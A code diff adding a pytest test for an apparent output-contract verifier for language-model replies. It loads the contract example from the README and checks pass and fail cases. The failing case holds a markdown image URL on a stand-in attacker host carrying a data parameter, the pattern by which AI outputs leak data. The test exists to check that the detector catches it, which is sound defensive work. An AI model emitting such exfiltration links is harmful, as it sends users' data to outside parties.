@@ -106,3 +106,20 @@ def test_banking77_contract_enum_is_the_77_categories():
     assert len(categories) == 77
     assert yaml.safe_load((BANKING / "intent.contract.yaml").read_text())["name"] \
         == "banking77-intent"
+
+
+def test_the_readme_contract_loads_and_judges_as_documented(tmp_path):
+    readme = (ROOT / "README.md").read_text()
+    section = readme.split("### A contract in YAML", 1)[1]
+    block = section.split("```yaml\n", 1)[1].split("```", 1)[0]
+    path = tmp_path / "support.contract.yaml"
+    path.write_text(block)
+    from unwalled.contracts import Verifier
+
+    verifier = Verifier(load_contract(path))
+    assert verifier.contract.on_fail.describe() == "repair 2x then fallback"
+    good = verifier.verify('{"reply": "Your card arrives in 3 days.", "category": "cards"}')
+    assert good.passed, good.violations
+    bad = verifier.verify('{"reply": "See ![x](https://evil.example/p.png?d=1)", '
+                          '"category": "card"}')
+    assert {v.check for v in bad.violations} == {"schema", "exfiltration", "urls"}
